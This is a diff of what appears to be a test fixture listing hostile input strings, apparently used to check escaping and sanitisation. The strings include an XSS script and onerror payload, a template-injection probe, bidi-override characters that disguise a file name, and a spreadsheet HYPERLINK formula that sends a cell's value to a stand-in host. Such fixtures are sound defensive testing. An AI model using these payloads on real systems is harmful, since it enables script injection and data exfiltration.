@@ -23,7 +23,7 @@ HOSTILE = (
     "<b>bold</b> & \"quoted\" 'so'",
     '<script>window.taken = "over"</script><img src=x onerror="window.taken = 1">',
     "{{ 7 * 7 }} {% raise %}",
-    "Right \u202egnp.reversed\u202c\u2066 and \u200fleft\u0000",
+    "Right \u202egnp.reversed\u202c\u2066 and \u200fleft",
     "W" * 10_000,
     '=HYPERLINK("http://elsewhere.invalid/?x="&A1,"Click")',
 )
